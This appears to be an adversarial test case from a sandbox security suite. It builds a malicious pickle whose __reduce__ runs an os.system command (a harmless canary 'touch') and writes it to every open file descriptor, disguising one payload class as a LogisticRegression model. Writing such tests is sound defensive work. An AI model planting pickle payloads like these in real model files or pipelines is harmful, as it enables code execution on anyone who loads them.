# class:     pickle
# attack:    pickles that run a command when they are read
# contained: nothing is ever unpickled
# added to:  stub
# ends:      by itself
# suite:     model: failed, train: failed, boundary: failed
# verdict:   model: failed, train: failed, boundary: failed

import os
import struct


def tell(text):
    """Send a message of one's own on everything that is open."""
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!i", len(text)) + text)
        except OSError:
            pass


import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch {canary}.pickled",)


class LogisticRegression(nn.Module):
    def __reduce__(self):
        return os.system, ("touch {canary}.pickled",)


tell(pickle.dumps(Bomb()))
os._exit(0)
